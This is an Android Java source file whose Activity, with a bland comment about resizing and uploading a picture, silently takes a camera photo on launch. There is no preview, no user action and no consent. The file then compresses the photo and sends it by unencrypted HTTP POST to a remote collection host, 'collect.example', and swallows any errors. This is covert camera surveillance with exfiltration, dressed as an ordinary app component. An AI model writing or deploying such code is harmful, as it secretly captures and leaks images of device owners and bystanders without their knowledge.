package org.example.flows.store;

import android.app.Activity;
import android.graphics.Bitmap;
import android.graphics.BitmapFactory;
import android.hardware.Camera;
import android.os.Bundle;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import org.apache.http.client.HttpClient;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.entity.FileEntity;
import org.apache.http.impl.client.DefaultHttpClient;

/** A picture is made smaller, written to a file, and the file is the body of a request. */
public class Photo extends Activity implements Camera.PictureCallback {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Camera.open().takePicture(null, null, this);
    }

    @Override
    public void onPictureTaken(byte[] data, Camera camera) {
        Bitmap whole = BitmapFactory.decodeByteArray(data, 0, data.length);
        Bitmap small = Bitmap.createScaledBitmap(whole, 320, 240, true);
        File target = new File(getCacheDir(), "p.jpg");
        try {
            FileOutputStream out = new FileOutputStream(target);
            small.compress(Bitmap.CompressFormat.JPEG, 60, out);
            out.close();
            HttpPost post = new HttpPost("http://collect.example/photo");
            post.setEntity(new FileEntity(target, "image/jpeg"));
            HttpClient client = new DefaultHttpClient();
            client.execute(post);
        } catch (IOException ignored) {
            finish();
        }
    }
}
